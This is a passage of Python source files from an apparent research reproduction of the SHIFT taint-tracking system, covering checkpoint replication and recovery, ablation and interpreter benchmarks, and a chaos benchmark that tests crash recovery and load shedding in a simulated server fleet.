O(touched pages), thanks to the COW deltas — and ships the blob to the
frontend tagged with a **request-index watermark**: the highest request
index whose effects (responses, quarantine evidence, console output)
the blob provably contains.  The frontend's :class:`ReplicaStore` keeps
only the newest blob per worker, so holding a whole fleet's insurance
costs one blob per worker, not a history.

When a worker dies, recovery is mechanical: build a twin, rehydrate it
from the last blob (:func:`recover_from_replica`), and replay only the
journal's open set — requests past the watermark that never completed.
Evidence below the watermark (quarantine incidents, console bytes)
rides inside the blob; completions above it are the journal's problem,
which is exactly the split that makes recovery exactly-once.

The store itself is deterministic bookkeeping shared by the simulated
serving loop (blob-less entries priced from the measured blob size) and
the multiprocessing arm (real blobs over real queues).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

__all__ = ["Replica", "ReplicaStore", "RecoveryPolicy",
           "recover_from_replica"]


@dataclass(frozen=True)
class RecoveryPolicy:
    """Failure-detection and replication tuning for one serving run."""

    #: Cycles between worker heartbeats (simulated arm) — the detector's
    #: sampling period.
    heartbeat_interval: float = 10_000.0
    #: Consecutive missed heartbeats before a worker is declared dead.
    miss_threshold: int = 3
    #: Completed requests between checkpoint replications (0 = never).
    replicate_every: int = 4
    #: Cycles a worker is busy packing + shipping one replica (the
    #: steady-state price of the insurance).
    replication_cycles: float = 20_000.0
    #: Cycles to rehydrate a replacement from a blob, on top of boot;
    #: None prices it from the measured migration blob.
    rehydrate_cycles: Optional[float] = None

    def __post_init__(self) -> None:
        if self.heartbeat_interval <= 0:
            raise ValueError("heartbeat interval must be positive")
        if self.miss_threshold < 1:
            raise ValueError("miss threshold must be at least 1")
        if self.replicate_every < 0 or self.replication_cycles < 0:
            raise ValueError("replication knobs must be non-negative")

    @property
    def detection_cycles(self) -> float:
        """Worst-case cycles from silent death to declared death."""
        return self.heartbeat_interval * self.miss_threshold


@dataclass(frozen=True)
class Replica:
    """One worker's newest replicated checkpoint at the frontend."""

    worker: str
    #: Highest request index whose effects the blob contains (-1 = a
    #: boot-state blob from before the worker served anything).
    watermark: int
    #: Quarantine incidents the blob carries (evidence continuity).
    evidence: int = 0
    #: Capture stamp: simulated cycles (sim arm) or perf_counter (mp).
    time: float = 0.0
    #: The actual SHFTMIG1 wire blob; None in the simulated arm, where
    #: size is priced from the measured migration blob instead.
    blob: Optional[bytes] = None

    @property
    def blob_bytes(self) -> int:
        return len(self.blob) if self.blob is not None else 0


class ReplicaStore:
    """Newest-blob-per-worker replication sink at the frontend."""

    def __init__(self) -> None:
        self._latest: Dict[str, Replica] = {}
        #: Replications accepted (including superseded ones).
        self.stored = 0
        #: Stale replications refused (watermark at or below the held one).
        self.stale = 0
        #: Total blob bytes ever shipped (wire cost of the insurance).
        self.bytes_shipped = 0

    def store(self, replica: Replica) -> bool:
        """Accept a replica; False when it does not advance the watermark."""
        held = self._latest.get(replica.worker)
        if held is not None and replica.watermark <= held.watermark:
            self.stale += 1
            return False
        self._latest[replica.worker] = replica
        self.stored += 1
        self.bytes_shipped += replica.blob_bytes
        return True

    def latest(self, worker: str) -> Optional[Replica]:
        return self._latest.get(worker)

    def drop(self, worker: str) -> None:
        """Forget a worker's replica (it retired cleanly; no insurance
        needed for a worker that drained its queue and left)."""
        self._latest.pop(worker, None)

    @property
    def workers(self) -> List[str]:
        return sorted(self._latest)

    def to_dict(self) -> Dict:
        return {
            "stored": self.stored,
            "stale": self.stale,
            "bytes_shipped": self.bytes_shipped,
            "held": {
                wid: {"watermark": rep.watermark,
                      "evidence": rep.evidence,
                      "blob_bytes": rep.blob_bytes}
                for wid, rep in sorted(self._latest.items())
            },
        }


def recover_from_replica(replica: Replica, config, worker_id: str):
    """Rehydrate a replacement worker machine from a replica blob.

    Builds a twin from the shared fleet configuration, applies the blob
    (fingerprint- and CRC-checked by :mod:`repro.resil.migrate`), and
    returns ``(machine, evidence)`` where ``evidence`` lists the
    quarantine incidents the blob carried — the forensic history that
    must survive the crash.  Raises when the replica has no blob (the
    simulated arm never calls this).
    """
    from repro.fleet.driver import build_worker
    from repro.resil.migrate import rehydrate_worker

    if replica.blob is None:
        raise ValueError("replica carries no blob to recover from")
    machine = build_worker(config, worker_id)
    rehydrate_worker(replica.blob, machine)
    sup = getattr(machine, "resil", None)
    evidence = [] if sup is None else [
        {"request_index": inc.request_index, "reason": inc.reason,
         "policy_id": inc.policy_id, "worker": inc.worker or replica.worker}
        for inc in sup.incidents
    ]
    return machine, evidence
