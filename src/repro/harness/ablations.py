"""Ablations of the design choices DESIGN.md calls out.

Not in the paper's figures, but each isolates one claim the paper makes
in prose:

* **NaT-source generation granularity** (section 4.4): the authors found
  per-function generation far cheaper than per-use, and a kept global
  source cheaper still — motivating the set/clear-NaT instructions.
* **Tag-address translation** (section 6.4): Itanium's region/
  unimplemented-bits combine makes the tag computation "more costly than
  [on] traditional x86 machines".
* **Compare relaxation** (section 4.1): what the NaT-clearing dance
  around compares costs in total.
* **Issue width**: how much instrumentation cost hides in EPIC slack.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence

from repro.apps.spec import BENCHMARKS
from repro.compiler.instrument import ShiftOptions
from repro.core.shift import build_machine
from repro.cpu.perf import IssueConfig
from repro.harness.formatting import format_table, geomean
from repro.harness.runners import PERF_OPTIONS, compiled_spec, run_spec, spec_policy

#: Instrumentation variants measured with tainted (unsafe) input.
#: "no compare relax" runs with *safe* input: without relaxation a NaT
#: operand would clear both compare predicates and corrupt control flow
#: — which is exactly why SHIFT cannot omit it on tainted data.
ABLATION_OPTIONS: Dict[str, tuple] = {
    "byte (baseline)": (PERF_OPTIONS["byte"], False),
    "natgen per use": (ShiftOptions(granularity=1, pointer_policy="permissive",
                                    natgen="use"), False),
    "natgen global": (ShiftOptions(granularity=1, pointer_policy="permissive",
                                   natgen="global"), False),
    "x86-style tag xlat": (ShiftOptions(granularity=1, pointer_policy="permissive",
                                        fast_tag_translation=True), False),
    "pruned compares": (ShiftOptions(granularity=1, pointer_policy="permissive",
                                     prune_clean_compares=True), False),
    "byte (safe input)": (PERF_OPTIONS["byte"], True),
    "no relax (safe)": (ShiftOptions(granularity=1, pointer_policy="permissive",
                                     relax_compares=False), True),
}


@dataclass
class AblationRow:
    """Slowdowns of one benchmark across the ablation variants."""
    benchmark: str
    slowdowns: Dict[str, float]


@dataclass
class AblationResult:
    """All ablation rows for one scale."""
    rows: List[AblationRow]
    scale: str

    def mean(self, label: str) -> float:
        """Geometric-mean slowdown of one variant."""
        return geomean(row.slowdowns[label] for row in self.rows)


def run_ablations(scale: str = "test",
                  benchmarks: Optional[Sequence[str]] = None) -> AblationResult:
    """Measure every ablation variant on the chosen benchmarks."""
    names = list(benchmarks) if benchmarks else ["gzip", "gcc", "mcf"]
    rows: List[AblationRow] = []
    for name in names:
        bench = BENCHMARKS[name]
        bases = {
            safe: run_spec(bench, PERF_OPTIONS["none"], scale, safe_input=safe)
            for safe in (False, True)
        }
        slowdowns: Dict[str, float] = {}
        for label, (options, safe) in ABLATION_OPTIONS.items():
            run = run_spec(bench, options, scale, safe_input=safe)
            if run.checksum != bases[safe].checksum:
                raise AssertionError(f"{name}/{label}: checksum diverged")
            slowdowns[label] = run.cycles / bases[safe].cycles
        rows.append(AblationRow(benchmark=name, slowdowns=slowdowns))
    return AblationResult(rows=rows, scale=scale)


def format_ablations(result: AblationResult) -> str:
    """Render the ablation table."""
    labels = list(ABLATION_OPTIONS)
    body = [[row.benchmark] + [row.slowdowns[label] for label in labels]
            for row in result.rows]
    body.append(["geo.mean"] + [result.mean(label) for label in labels])
    return format_table(
        ["benchmark"] + labels, body,
        title=f"Ablations: byte-level slowdown under design variants (scale={result.scale})",
    )


@dataclass
class WidthRow:
    """Slowdown at one issue width."""
    width: int
    baseline_cycles: float
    shift_cycles: float

    @property
    def slowdown(self) -> float:
        """Instrumented over baseline cycles."""
        return self.shift_cycles / self.baseline_cycles


def run_width_ablation(benchmark: str = "gzip", scale: str = "test",
                       widths: Sequence[int] = (1, 2, 6)) -> List[WidthRow]:
    """Instrumentation overhead vs machine issue width.

    Narrow machines cannot hide instrumentation in empty slots, so the
    relative slowdown grows as width shrinks.
    """
    bench = BENCHMARKS[benchmark]
    rows: List[WidthRow] = []
    for width in widths:
        config = IssueConfig(width=width, mem_ports=min(2, width))
        cycles = {}
        for label in ("none", "byte"):
            machine = build_machine(
                compiled_spec(bench, PERF_OPTIONS[label], scale),
                policy_config=spec_policy(safe_input=False),
                files={"/data": bench.make_input(scale)},
                issue_config=config,
            )
            machine.run(max_instructions=100_000_000)
            cycles[label] = machine.counters.cycles
        rows.append(WidthRow(width=width, baseline_cycles=cycles["none"],
                             shift_cycles=cycles["byte"]))
    return rows


def format_width_ablation(rows: List[WidthRow], benchmark: str = "gzip") -> str:
    """Render the issue-width table."""
    return format_table(
        ["issue width", "slowdown"],
        [[row.width, row.slowdown] for row in rows],
        title=f"Issue-width ablation on {benchmark}: EPIC slack absorbs instrumentation",
    )
