"""Experiment harness: one module per paper table/figure."""

from repro.harness.charts import (
    bar_chart,
    figure7_chart,
    figure8_chart,
    figure9_chart,
)
from repro.harness.ablations import (
    ABLATION_OPTIONS,
    AblationResult,
    format_ablations,
    format_width_ablation,
    run_ablations,
    run_width_ablation,
)
from repro.harness.baselines_cmp import (
    BaselineResult,
    format_baselines,
    run_baseline_comparison,
)
from repro.harness.figure6 import Figure6Result, format_figure6, run_figure6
from repro.harness.figure7 import Figure7Result, format_figure7, run_figure7
from repro.harness.figure8 import Figure8Result, format_figure8, run_figure8
from repro.harness.figure9 import Figure9Result, format_figure9, run_figure9
from repro.harness.formatting import format_table, geomean
from repro.harness.runners import (
    MeasuredRun,
    PERF_OPTIONS,
    WebRun,
    run_spec,
    run_webserver,
    spec_slowdown,
)
from repro.harness.table1 import format_table1_output, run_table1
from repro.harness.table2 import Table2Result, format_table2, run_table2
from repro.harness.table3 import Table3Row, format_table3, run_table3

__all__ = [
    "ABLATION_OPTIONS",
    "bar_chart",
    "figure7_chart",
    "figure8_chart",
    "figure9_chart",
    "AblationResult",
    "BaselineResult",
    "Figure6Result",
    "Figure7Result",
    "Figure8Result",
    "Figure9Result",
    "MeasuredRun",
    "PERF_OPTIONS",
    "Table2Result",
    "Table3Row",
    "WebRun",
    "format_ablations",
    "format_baselines",
    "format_figure6",
    "format_figure7",
    "format_figure8",
    "format_figure9",
    "format_table",
    "format_table1_output",
    "format_table2",
    "format_table3",
    "geomean",
    "format_width_ablation",
    "run_ablations",
    "run_baseline_comparison",
    "run_figure6",
    "run_figure7",
    "run_figure8",
    "run_figure9",
    "run_spec",
    "run_table1",
    "run_table2",
    "run_table3",
    "run_webserver",
    "run_width_ablation",
    "spec_slowdown",
]
