"""Table 1: the security-policy catalogue."""

from __future__ import annotations

from repro.taint.policy import TABLE1, format_table1


def run_table1():
    """The policy catalogue (static; returned for symmetry)."""
    return TABLE1


def format_table1_output() -> str:
    """Render Table 1 with its caption."""
    return "Table 1: Security Policies in SHIFT\n" + format_table1()
