"""Interpreter benchmark: predecoded engine vs the reference step loop.

Runs the Figure-7 SPEC kernels and the webserver workload under both
execution engines, cross-validates that they produce bit-identical
results (checksums and performance counters), and emits
``BENCH_interp.json`` with host wall time, simulated instructions per
second, and the per-workload speedup — so every future change can track
the interpreter-performance trajectory::

    PYTHONPATH=src python -m repro.harness.perfbench --quick

The JSON is keyed by workload; ``geomean_speedup_spec`` is the headline
number (the geometric-mean speedup over the SPEC kernels).  With
``--check-faster`` the process exits non-zero when the predecoded
engine is slower than the reference loop, which is the only condition
the CI benchmark job gates on (absolute throughput varies with runner
hardware; the ratio does not).
"""

from __future__ import annotations

import argparse
import json
import math
import sys
import time
from typing import Callable, Dict, List, Tuple

from repro.apps.spec import BENCHMARKS
from repro.apps.webserver import make_request, make_site
from repro.core.shift import build_machine
from repro.harness.runners import (
    PERF_OPTIONS,
    compiled_spec,
    compiled_webserver,
    spec_policy,
    webserver_policy,
)

ENGINES = ("reference", "predecoded")

#: Kernels used by --quick (small but representative: tight loop vs
#: pointer chasing) and by the full run (all Figure-7 kernels).
QUICK_SPEC = ("gzip", "mcf")
FULL_SPEC = tuple(BENCHMARKS)

#: Instrumentation used for the measurement: byte-granularity taint
#: with the permissive pointer policy, the paper's headline config.
BENCH_OPTIONS = PERF_OPTIONS["byte"]

Builder = Callable[[str], object]
Runner = Callable[[object], int]


def spec_workload(name: str, scale: str) -> Tuple[Builder, Runner]:
    """(build, run) pair for one SPEC kernel."""
    bench = BENCHMARKS[name]
    compiled = compiled_spec(bench, BENCH_OPTIONS, scale)
    data = bench.make_input(scale)

    def build(engine: str):
        return build_machine(
            compiled,
            policy_config=spec_policy(False),
            files={"/data": data},
            engine=engine,
        )

    def run(machine) -> int:
        machine.run()
        return machine.read_global("result")

    return build, run


def web_workload(requests: int, file_kb: int = 4) -> Tuple[Builder, Runner]:
    """(build, run) pair for the webserver workload."""
    compiled = compiled_webserver(BENCH_OPTIONS)
    site = make_site((file_kb,))

    def build(engine: str):
        machine = build_machine(
            compiled,
            policy_config=webserver_policy(),
            files=dict(site),
            engine=engine,
        )
        for _ in range(requests):
            machine.net.add_request(make_request(file_kb))
        return machine

    def run(machine) -> int:
        return machine.run(max_instructions=1_000_000_000)

    return build, run


def measure(build: Builder, run: Runner, engine: str, repeat: int) -> Dict:
    """Best-of-``repeat`` wall time for one workload under one engine.

    Each repetition uses a fresh machine; predecode tables are built
    before the timer starts, and the process-wide codegen cache makes
    repetitions after the first warm, so best-of reflects steady state.
    """
    best = math.inf
    value = counters = None
    for _ in range(repeat):
        machine = build(engine)
        cpu = machine.cpu
        cpu._ensure_uops()
        if engine == "predecoded":
            cpu._ensure_fused()
        start = time.perf_counter()
        value = run(machine)
        wall = time.perf_counter() - start
        best = min(best, wall)
        counters = machine.counters
    return {
        "wall_s": best,
        "instructions": counters.instructions,
        "ips": counters.instructions / best if best else 0.0,
        "result": value,
        "snapshot": counters.snapshot(),
    }


def bench_workload(name: str, build: Builder, run: Runner,
                   repeat: int) -> Dict:
    """Measure one workload under both engines and cross-validate."""
    engines = {e: measure(build, run, e, repeat) for e in ENGINES}
    ref, pre = engines["reference"], engines["predecoded"]
    if ref["result"] != pre["result"]:
        raise AssertionError(
            f"{name}: engines diverged on result "
            f"({ref['result']} != {pre['result']})")
    if ref["snapshot"] != pre["snapshot"]:
        raise AssertionError(
            f"{name}: engines diverged on counters "
            f"({ref['snapshot']} != {pre['snapshot']})")
    entry = {
        "instructions": ref["instructions"],
        "engines": {
            e: {"wall_s": round(r["wall_s"], 6), "ips": round(r["ips"], 1)}
            for e, r in engines.items()
        },
        "speedup": pre["ips"] / ref["ips"] if ref["ips"] else 0.0,
    }
    return entry


def geomean(values: List[float]) -> float:
    """Geometric mean (0.0 for an empty list)."""
    if not values:
        return 0.0
    return math.exp(sum(math.log(v) for v in values) / len(values))


def run_suite(quick: bool, scale: str, repeat: int) -> Dict:
    """Run the full benchmark matrix; returns the report dict."""
    spec_names = QUICK_SPEC if quick else FULL_SPEC
    requests = 20 if quick else 50
    workloads: Dict[str, Dict] = {}
    for name in spec_names:
        build, run = spec_workload(name, scale)
        workloads[f"spec:{name}"] = bench_workload(name, build, run, repeat)
        print(f"  spec:{name:8s} {workloads[f'spec:{name}']['speedup']:.2f}x",
              flush=True)
    build, run = web_workload(requests)
    workloads["webserver"] = bench_workload("webserver", build, run, repeat)
    print(f"  webserver     {workloads['webserver']['speedup']:.2f}x",
          flush=True)
    spec_speedups = [w["speedup"] for k, w in workloads.items()
                     if k.startswith("spec:")]
    return {
        "config": {
            "options": BENCH_OPTIONS.label,
            "scale": scale,
            "repeat": repeat,
            "quick": quick,
            "python": sys.version.split()[0],
        },
        "workloads": workloads,
        "geomean_speedup_spec": round(geomean(spec_speedups), 3),
        "geomean_speedup_all": round(
            geomean([w["speedup"] for w in workloads.values()]), 3),
    }


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(
        prog="repro.harness.perfbench", description=__doc__.split("\n")[0])
    parser.add_argument("--quick", action="store_true",
                        help="small kernel subset and fewer requests")
    parser.add_argument("--scale", default="test",
                        help="SPEC input scale (default: test)")
    parser.add_argument("--repeat", type=int, default=3,
                        help="repetitions per engine; best-of is reported")
    parser.add_argument("--output", default="BENCH_interp.json",
                        help="report path (default: BENCH_interp.json)")
    parser.add_argument("--check-faster", action="store_true",
                        help="exit 1 if predecoded is slower than reference")
    args = parser.parse_args(argv)

    print(f"perfbench: engines={ENGINES} scale={args.scale} "
          f"repeat={args.repeat} quick={args.quick}", flush=True)
    report = run_suite(args.quick, args.scale, args.repeat)
    with open(args.output, "w") as fh:
        json.dump(report, fh, indent=2, sort_keys=True)
        fh.write("\n")
    print(f"geomean speedup (spec): {report['geomean_speedup_spec']:.2f}x")
    print(f"geomean speedup (all):  {report['geomean_speedup_all']:.2f}x")
    print(f"wrote {args.output}")
    if args.check_faster and report["geomean_speedup_all"] < 1.0:
        print("FAIL: predecoded engine is slower than the reference loop",
              file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
