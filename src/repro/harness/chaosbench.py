"""Chaos benchmark: crash campaigns, exactly-once recovery, shedding.

Five experiments, one report (``BENCH_chaos.json``):

1. **Crash campaigns** (one per seed): an attack-laced open-loop
   workload served while a seeded :class:`~repro.chaos.schedule
   .ChaosSchedule` kills workers fail-stop, freezes one long enough to
   become a zombie, and corrupts/drops response frames on the wire.
   Each campaign runs against an *uncrashed control* of the same
   workload; the gate requires the chaos run's outcome digest (what
   was served, stripped of timing and placement) to equal the
   control's — crashes replayed exactly the open requests, the journal
   suppressed every duplicate, and no request was lost.  Quarantine
   evidence must survive recovery intact and every campaign must
   replay bit-identically at its seed.
2. **Zombie dedup**: a single worker stalled past the failure
   detector's patience is declared dead and replaced; when it wakes
   and finishes its request anyway, the request-id journal must
   suppress the duplicate (``duplicates_suppressed >= 1``).
3. **Graceful degradation**: offered load at twice capacity with
   admission control armed.  Shedding must actually happen, every
   refusal must be an explicit 503-style rejection (zero silent
   drops), and every *accepted* request must complete exactly once
   with all admitted attacks quarantined.
4. **Wire chaos**: heavy frame corruption/drop rates absorbed by the
   frontend's bounded retransmit; the gate requires visible
   ``fleet.retransmits``/``fleet.frame_rejects`` counters and an
   outcome digest equal to a clean-wire control.
5. **Supervised wall-clock arm** (skipped with ``--quick`` unless
   ``--wall``): real worker processes, a real ``SIGKILL`` directive,
   heartbeat detection and blob-rehydrated replacement via
   :class:`repro.fleet.supervised.SupervisedFleet` — reported, never
   gated (wall-clock numbers are not bit-reproducible).

::

    PYTHONPATH=src python -m repro.harness.chaosbench --quick --gate

``--gate`` exits non-zero unless every condition above holds — the CI
``chaos-smoke`` job's contract.
"""

from __future__ import annotations

import sys
from typing import Dict, List

from repro.chaos import ChaosEvent, ChaosSchedule, RecoveryPolicy, WorkerChaos
from repro.compiler.instrument import ShiftOptions
from repro.fleet.driver import FleetConfig
from repro.harness.benchcli import bench_parser, write_report
from repro.serve import (
    LoadConfig,
    LoadPhase,
    ServeSim,
    ServiceModel,
    describe,
    generate,
)

#: Campaign fleet size (crashes walk the workers round-robin).
CAMPAIGN_WORKERS = 3

#: Fail-stop crashes per campaign trial.
CAMPAIGN_CRASHES = 2

#: Stalls per campaign trial (sized to outlast the detector: zombies).
CAMPAIGN_STALLS = 1

#: Per-attempt frame corruption / drop probabilities in the campaigns.
CAMPAIGN_CORRUPT = 0.08
CAMPAIGN_DROP = 0.05

#: Wire-chaos experiment rates (deliberately heavier than the campaign).
WIRE_CORRUPT = 0.2
WIRE_DROP = 0.1

#: Attack share of campaign traffic.
ATTACK_FRACTION = 0.25

#: Strict byte granularity so planted overflows are caught (the same
#: configuration the serving and fleet benches gate detection with).
ATTACK_OPTIONS = ShiftOptions(granularity=1)
ATTACK_SIZES = (4, 8)
ATTACK_WEIGHTS = (0.8, 0.2)

#: Per-request instruction budget for recover-mode workers.
SERVE_WATCHDOG = 2_000_000

#: Slack multiplier on the analytic recovery-latency bound.
RECOVERY_SLACK = 1.5


def _config(engine: str) -> FleetConfig:
    return FleetConfig(variant="resil", options=ATTACK_OPTIONS,
                       sizes=ATTACK_SIZES, engine=engine,
                       recover_watchdog=SERVE_WATCHDOG)


def _mean_service(service: ServiceModel) -> float:
    from repro.apps.webserver import make_request

    total = sum(ATTACK_WEIGHTS)
    return sum(service.cost(make_request(kb)).cycles * w
               for kb, w in zip(ATTACK_SIZES, ATTACK_WEIGHTS)) / total


def _workload(seed: int, offered: float, requests: int, *,
              attack_fraction: float = ATTACK_FRACTION) -> List:
    duration = requests * 1e6 / offered
    return generate(LoadConfig(
        seed=seed, phases=[LoadPhase(duration, offered)],
        sizes_kb=ATTACK_SIZES, size_weights=ATTACK_WEIGHTS,
        attack_fraction=attack_fraction))


def recovery_bound(service: ServiceModel, policy: RecoveryPolicy) -> float:
    """Analytic worst-case failure-to-ready latency, with slack.

    Detection waits out the detector's patience; the replacement then
    pays boot plus blob rehydration.  Anything slower than this bound
    means recovery is doing work it should not be.
    """
    rehydrate = (policy.rehydrate_cycles
                 if policy.rehydrate_cycles is not None
                 else service.migration_cycles)
    return RECOVERY_SLACK * (policy.detection_cycles
                             + service.boot_cycles + rehydrate)


def campaign_run(service: ServiceModel, seed: int, requests: int) -> Dict:
    """One seeded crash campaign vs. its uncrashed control."""
    mean = _mean_service(service)
    capacity = CAMPAIGN_WORKERS * 1e6 / mean
    offered = 0.8 * capacity
    duration = requests * 1e6 / offered
    policy = RecoveryPolicy()
    chaos = ChaosSchedule.campaign(
        seed, workers=CAMPAIGN_WORKERS, duration=duration,
        crashes=CAMPAIGN_CRASHES, stalls=CAMPAIGN_STALLS,
        stall_cycles=4.0 * policy.detection_cycles,
        corrupt_rate=CAMPAIGN_CORRUPT, drop_rate=CAMPAIGN_DROP)

    workload = _workload(seed, offered, requests)
    control = ServeSim(workers=CAMPAIGN_WORKERS, seed=seed,
                       service_model=service).run(workload)
    result = ServeSim(workers=CAMPAIGN_WORKERS, seed=seed,
                      service_model=service, chaos=chaos,
                      recovery=policy).run(workload)
    rerun = ServeSim(workers=CAMPAIGN_WORKERS, seed=seed,
                     service_model=service, chaos=chaos,
                     recovery=policy).run(
        _workload(seed, offered, requests))

    detection = result.attack_detection()
    bound = recovery_bound(service, policy)
    journal = result.journal.to_dict()
    frontend = result.frontend
    return {
        "seed": seed,
        "workload": describe(workload),
        "schedule": chaos.describe(),
        "requests": len(result.records),
        "served": result.served,
        "quarantined": result.quarantined,
        "dropped": result.dropped,
        "shed": result.shed,
        "replayed": result.replayed,
        "stale_completions": result.stale_completions,
        "acks_lost": result.acks_lost,
        "retransmits": frontend.retransmits,
        "frame_rejects": frontend.frame_rejects,
        "frames_lost": frontend.frames_lost,
        "journal": journal,
        "recoveries": result.recoveries,
        "recovery_latency_max": round(result.recovery_latency_max(), 1),
        "recovery_bound": round(bound, 1),
        "recovery_bounded": result.recovery_latency_max() <= bound,
        "detection": detection,
        "false_alerts": result.false_alerts,
        "latency": {k: round(v, 1)
                    for k, v in result.latency_percentiles().items()},
        "control": {
            "served": control.served,
            "quarantined": control.quarantined,
            "detection": control.attack_detection(),
            "p99": round(control.latency_percentiles()["p99"], 1),
        },
        "p99_vs_control": round(
            result.latency_percentiles()["p99"]
            - control.latency_percentiles()["p99"], 1),
        "outcome_digest": result.outcome_digest(),
        "outcome_matches_control": (result.outcome_digest()
                                    == control.outcome_digest()),
        "evidence_intact": result.quarantined == control.quarantined,
        "digest": result.digest(),
        "rerun_identical": result.digest() == rerun.digest(),
        "exactly_once": (journal["exactly_once"]
                         and journal["open"] == 0
                         and result.dropped == 0),
    }


def zombie_run(service: ServiceModel, seed: int, requests: int) -> Dict:
    """Stall one worker past the detector: the journal must dedup."""
    mean = _mean_service(service)
    offered = 0.9 * 1e6 / mean  # keep the single worker busy
    duration = requests * 1e6 / offered
    policy = RecoveryPolicy()
    chaos = ChaosSchedule([
        ChaosEvent(time=0.4 * duration, kind="stall", worker="w0",
                   duration=6.0 * policy.detection_cycles),
    ], seed=seed)
    result = ServeSim(workers=1, seed=seed, service_model=service,
                      chaos=chaos, recovery=policy).run(
        _workload(seed, offered, requests, attack_fraction=0.0))
    journal = result.journal.to_dict()
    return {
        "requests": len(result.records),
        "served": result.served,
        "recoveries": result.recoveries,
        "stale_completions": result.stale_completions,
        "journal": journal,
        "deduped": journal["duplicates_suppressed"] >= 1,
        "exactly_once": (journal["exactly_once"]
                         and journal["open"] == 0
                         and result.dropped == 0),
    }


def shed_run(service: ServiceModel, seed: int, requests: int) -> Dict:
    """Twice-capacity load with admission control armed."""
    mean = _mean_service(service)
    capacity = 2 * 1e6 / mean
    offered = 2.0 * capacity
    duration = requests * 1e6 / offered
    policy = RecoveryPolicy()
    chaos = ChaosSchedule.campaign(
        seed, workers=2, duration=duration, crashes=1)
    result = ServeSim(workers=2, seed=seed, service_model=service,
                      chaos=chaos, recovery=policy,
                      shed_limit=6).run(
        _workload(seed, offered, requests))
    journal = result.journal.to_dict()
    detection = result.attack_detection()
    return {
        "offered_multiplier": 2.0,
        "shed_limit": 6,
        "requests": len(result.records),
        "shed": result.shed,
        "rejected_counter": result.frontend.rejected,
        "dropped": result.dropped,
        "served": result.served,
        "quarantined": result.quarantined,
        "journal": journal,
        "recoveries": len(result.recoveries),
        "detection": detection,
        "accepted_complete": (journal["open"] == 0
                              and journal["completed"]
                              == journal["admitted"]),
        "no_silent_drops": (result.dropped == 0
                            and result.shed == result.frontend.rejected),
        "exactly_once": journal["exactly_once"],
    }


def wire_run(service: ServiceModel, seed: int, requests: int) -> Dict:
    """Heavy wire damage absorbed by bounded retransmit."""
    mean = _mean_service(service)
    offered = 0.7 * 2 * 1e6 / mean
    chaos = ChaosSchedule(seed=seed, corrupt_rate=WIRE_CORRUPT,
                          drop_rate=WIRE_DROP)
    workload = _workload(seed, offered, requests)
    control = ServeSim(workers=2, seed=seed,
                       service_model=service).run(workload)
    result = ServeSim(workers=2, seed=seed, service_model=service,
                      chaos=chaos).run(workload)
    journal = result.journal.to_dict()
    frontend = result.frontend
    return {
        "corrupt_rate": WIRE_CORRUPT,
        "drop_rate": WIRE_DROP,
        "requests": len(result.records),
        "served": result.served,
        "retransmits": frontend.retransmits,
        "frame_rejects": frontend.frame_rejects,
        "frames_lost": frontend.frames_lost,
        "acks_lost": result.acks_lost,
        "retransmit_cycles": round(result.retransmit_cycles, 1),
        "journal": journal,
        "wire_visible": (frontend.retransmits > 0
                         and frontend.frame_rejects > 0),
        "outcome_matches_control": (result.outcome_digest()
                                    == control.outcome_digest()),
        "exactly_once": (journal["exactly_once"]
                         and journal["open"] == 0
                         and result.dropped == 0),
    }


def supervised_run(engine: str, seed: int, requests: int) -> Dict:
    """Real processes, real SIGKILL (reported, never gated)."""
    from repro.fleet.driver import FleetDriver

    chaos = ChaosSchedule(directives={
        "w0": WorkerChaos(crash_after=2),
    }, seed=seed)
    driver = FleetDriver(_config(engine), workers=2, seed=seed,
                         routing="round_robin")
    payloads = [b"GET /static/page-%d.html" % i for i in range(requests)]
    report = driver.run_supervised(payloads, chaos=chaos)
    return report


def run_suite(quick: bool, seed: int, engine: str, *,
              wall: bool) -> Dict:
    """All experiments; returns the full report dict."""
    requests = 50 if quick else 110
    seeds = [seed + i for i in range(2 if quick else 3)]
    service = ServiceModel(_config(engine))

    print("chaosbench: measuring service budgets", flush=True)
    mean = _mean_service(service)
    print(f"  boot {service.boot_cycles:.0f} cycles, mix mean "
          f"{mean:.0f} cycles ({service.measured} payloads measured)",
          flush=True)

    campaigns = []
    for s in seeds:
        print(f"chaosbench: crash campaign (seed {s})", flush=True)
        trial = campaign_run(service, s, requests)
        campaigns.append(trial)
        print(f"  {len(trial['recoveries'])} recoveries, "
              f"{trial['replayed']} replayed, journal "
              f"{trial['journal']['completed']}/"
              f"{trial['journal']['admitted']}, outcome==control: "
              f"{trial['outcome_matches_control']}, rerun identical: "
              f"{trial['rerun_identical']}", flush=True)

    print("chaosbench: zombie dedup", flush=True)
    zombie = zombie_run(service, seed, requests=max(20, requests // 2))
    print(f"  {zombie['journal']['duplicates_suppressed']} duplicate(s) "
          f"suppressed, exactly-once: {zombie['exactly_once']}",
          flush=True)

    print("chaosbench: graceful degradation (2x capacity)", flush=True)
    shed = shed_run(service, seed, requests)
    print(f"  {shed['shed']} shed / {shed['requests']} offered, "
          f"accepted complete: {shed['accepted_complete']}, silent "
          f"drops: {shed['dropped']}", flush=True)

    print("chaosbench: wire chaos", flush=True)
    wire = wire_run(service, seed, requests=max(30, requests // 2))
    print(f"  {wire['retransmits']} retransmits "
          f"({wire['frame_rejects']} CRC rejects, "
          f"{wire['frames_lost']} lost), outcome==control: "
          f"{wire['outcome_matches_control']}", flush=True)

    supervised = None
    if wall:
        print("chaosbench: supervised wall-clock arm (real SIGKILL)",
              flush=True)
        supervised = supervised_run(engine, seed, requests=8)
        print(f"  {supervised['completed']}/{supervised['requests']} done, "
              f"{len(supervised['recoveries'])} recoveries, exactly-once: "
              f"{supervised['journal']['exactly_once']}", flush=True)

    return {
        "config": {
            "seed": seed,
            "seeds": seeds,
            "engine": engine,
            "quick": quick,
            "requests": requests,
            "workers": CAMPAIGN_WORKERS,
            "python": sys.version.split()[0],
        },
        "service_model": {
            "boot_cycles": service.boot_cycles,
            "payloads_measured": service.measured,
            "mean_service_cycles": round(mean, 1),
            "migration_cycles": round(service.migration_cycles, 1),
        },
        "campaigns": campaigns,
        "zombie": zombie,
        "shedding": shed,
        "wire": wire,
        "supervised": supervised,
    }


def gate(report: Dict) -> int:
    """Check the CI gate conditions; returns a process exit code."""
    failures = []
    for trial in report["campaigns"]:
        tag = f"campaign seed {trial['seed']}"
